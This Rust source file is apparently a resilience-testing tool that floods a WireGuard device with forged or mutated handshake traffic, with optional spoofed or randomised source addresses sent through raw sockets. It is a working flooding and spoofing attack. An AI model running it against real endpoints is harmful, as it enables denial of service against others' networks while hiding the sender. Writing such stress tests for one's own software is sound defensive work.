//! Floods a UDP port with bad WireGuard traffic and prints what it sent as a line of JSON.

use std::net::{SocketAddrV4, UdpSocket};
use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
use std::path::PathBuf;
use std::time::{Duration, Instant};

use anyhow::Context as _;
use clap::Parser as _;
use warren_hostile::forge::{Forger, INITIATION_LEN};
use warren_hostile::mutate::Mutator;
use warren_hostile::random::Random;
use warren_keyring::PublicKey;

/// Datagrams of one system call.
const BATCH: usize = 32;
/// How many batches of forged initiations are made beforehand and sent again and again: the cost of
/// making them is the attacker's own, and here it would be taken from the attacked.
const FORGED_BATCHES: usize = 256;

#[derive(Debug, clap::Parser)]
#[command(about = "Bad WireGuard traffic; prints JSON")]
struct Options {
    /// Where to, as ADDRESS:PORT
    to: SocketAddrV4,
    /// The attacked device's public key, to forge its MAC1 and to know what it may answer
    #[arg(long)]
    key: PublicKey,
    /// Send initiations with a valid MAC1 instead of random and mutated datagrams
    #[arg(long)]
    forge: bool,
    /// Real messages to mutate: a file with one datagram in hex a line
    #[arg(long)]
    recorded: Option<PathBuf>,
    /// How many datagrams to send
    #[arg(long)]
    count: u64,
    /// Datagrams a second
    #[arg(long)]
    rate: u64,
    /// Makes the same attack again
    #[arg(long, default_value_t = 1)]
    seed: u64,
    /// Forge this source as ADDRESS:PORT, or `random` ones; without it, it is the host's own
    #[arg(long, requires = "forge")]
    from: Option<From>,
}

/// Whose address a datagram claims to be from.
#[derive(Clone, Copy, Debug)]
enum From {
    One(SocketAddrV4),
    Random,
}

impl std::str::FromStr for From {
    type Err = std::net::AddrParseError;

    fn from_str(text: &str) -> Result<Self, Self::Err> {
        match text {
            "random" => Ok(Self::Random),
            address => address.parse().map(Self::One),
        }
    }
}

/// Bytes of the headers of IPv4 and UDP.
const HEADERS_LEN: usize = 28;

/// Puts headers before a datagram; the kernel fills in the length and the checksum of IPv4's.
fn with_headers(from: From, to: SocketAddrV4, datagram: &[u8]) -> Vec<u8> {
    let mut bytes = vec![0; HEADERS_LEN];
    bytes[0] = 0x45;
    bytes[8] = 64;
    bytes[9] = libc::IPPROTO_UDP as u8;
    bytes[16..20].copy_from_slice(&to.ip().octets());
    if let From::One(from) = from {
        bytes[12..16].copy_from_slice(&from.ip().octets());
        bytes[20..22].copy_from_slice(&from.port().to_be_bytes());
    }
    bytes[22..24].copy_from_slice(&to.port().to_be_bytes());
    let len = (datagram.len() + 8) as u16;
    bytes[24..26].copy_from_slice(&len.to_be_bytes());
    bytes.extend_from_slice(datagram);
    bytes
}

/// Gives each datagram another source, of some billion of addresses that anybody can have.
fn scatter(random: &mut Random, batch: &mut [Vec<u8>]) {
    for bytes in batch {
        let source = random.bits();
        let first = 20 + (source >> 32) as u8 % 80;
        bytes[12..16].copy_from_slice(&(source as u32).to_be_bytes());
        bytes[12] = first;
        bytes[20..22].copy_from_slice(&((source >> 48) as u16).to_be_bytes());
    }
}

fn main() -> anyhow::Result<()> {
    let options = Options::parse();
    let socket = match options.from {
        None => OwnedFd::from(UdpSocket::bind("0.0.0.0:0").context("make a socket")?),
        Some(_) => raw_socket().context("make a raw socket")?,
    };
    let recorded = match &options.recorded {
        Some(path) => read_recorded(path)?,
        None => Vec::new(),
    };
    // An attacker has a machine of his own, whatever else this one has to do. Where that is not
    // allowed the report tells that the rate was not reached.
    // SAFETY: the call has no memory to do with.
    unsafe { libc::setpriority(libc::PRIO_PROCESS, 0, -20) };
    let forger = Forger::new(&options.key);
    let mut mutator = Mutator::new(options.seed, recorded);
    let mut random = Random::new(options.seed);
    let mut forge = || {
        let mut initiation = [0; INITIATION_LEN];
        forger.initiation(&mut random, &mut initiation);
        initiation.to_vec()
    };
    let mut forged: Vec<Vec<Vec<u8>>> = match options.forge {
        true => (0..FORGED_BATCHES)
            .map(|_| (0..BATCH).map(|_| forge()).collect())
            .collect(),
        false => Vec::new(),
    };
    if let Some(from) = options.from {
        for datagram in forged.iter_mut().flatten() {
            *datagram = with_headers(from, options.to, datagram);
        }
    }
    let mut batch: Vec<Vec<u8>> = vec![Vec::new(); BATCH];
    let mut sources = Random::new(!options.seed);
    let (mut sent, mut answerable, mut failed) = (0u64, 0u64, 0u64);
    let start = Instant::now();
    for round in 0.. {
        if sent >= options.count {
            break;
        }
        let batch = if options.forge {
            answerable += BATCH as u64;
            let batch = &mut forged[round % FORGED_BATCHES];
            if let Some(From::Random) = options.from {
                scatter(&mut sources, batch);
            }
            batch
        } else {
            for datagram in &mut batch {
                mutator.next(datagram);
                answerable += u64::from(forger.may_be_answered(datagram));
            }
            &batch
        };
        failed += send(&socket, options.to, batch);
        sent += BATCH as u64;
        let due = Duration::from_nanos(sent.saturating_mul(1_000_000_000) / options.rate.max(1));
        std::thread::sleep(due.saturating_sub(start.elapsed()));
    }
    let seconds = start.elapsed().as_secs_f64();
    println!(
        "{}",
        serde_json::json!({
            "sent": sent, "answerable": answerable, "failed": failed, "seconds": seconds,
        })
    );
    Ok(())
}

/// A socket for datagrams that have their headers already.
fn raw_socket() -> std::io::Result<OwnedFd> {
    let flags = libc::SOCK_RAW | libc::SOCK_CLOEXEC;
    // SAFETY: the call has no memory to do with.
    let socket = unsafe { libc::socket(libc::AF_INET, flags, libc::IPPROTO_RAW) };
    if socket < 0 {
        return Err(std::io::Error::last_os_error());
    }
    // SAFETY: the descriptor is new, and nobody else's.
    Ok(unsafe { OwnedFd::from_raw_fd(socket) })
}

fn read_recorded(path: &PathBuf) -> anyhow::Result<Vec<Vec<u8>>> {
    let text = std::fs::read_to_string(path).with_context(|| format!("read {}", path.display()))?;
    let bytes = |line: &str| -> anyhow::Result<Vec<u8>> {
        let pairs = line.as_bytes().chunks(2);
        let byte = |pair| anyhow::Ok(u8::from_str_radix(std::str::from_utf8(pair)?, 16)?);
        pairs.map(byte).collect()
    };
    text.lines().map(bytes).collect()
}

/// Sends a batch, and tells how many datagrams did not leave.
fn send(socket: &OwnedFd, to: SocketAddrV4, batch: &[Vec<u8>]) -> u64 {
    let mut address = libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: to.port().to_be(),
        sin_addr: libc::in_addr {
            s_addr: u32::from_ne_bytes(to.ip().octets()),
        },
        sin_zero: [0; 8],
    };
    let mut parts: Vec<libc::iovec> = batch
        .iter()
        .map(|datagram| libc::iovec {
            iov_base: datagram.as_ptr().cast_mut().cast(),
            iov_len: datagram.len(),
        })
        .collect();
    let mut messages: Vec<libc::mmsghdr> = parts
        .iter_mut()
        .map(|part| {
            // SAFETY: all zeros is an empty message header.
            let mut message: libc::mmsghdr = unsafe { std::mem::zeroed() };
            message.msg_hdr.msg_name = (&raw mut address).cast();
            message.msg_hdr.msg_namelen = size_of::<libc::sockaddr_in>() as libc::socklen_t;
            message.msg_hdr.msg_iov = part;
            message.msg_hdr.msg_iovlen = 1;
            message
        })
        .collect();
    let (mut done, mut failed) = (0, 0);
    while done < messages.len() {
        let rest = &mut messages[done..];
        // SAFETY: `rest` is valid for its length, and its headers point to `address`, `parts` and
        // `batch`, which outlive the call; the kernel only reads the payloads.
        let count =
            unsafe { libc::sendmmsg(socket.as_raw_fd(), rest.as_mut_ptr(), rest.len() as u32, 0) };
        if count > 0 {
            done += count as usize;
        } else {
            // The first of the rest is refused, for one by the answer of a closed port.
            failed += 1;
            done += 1;
        }
    }
    failed
}
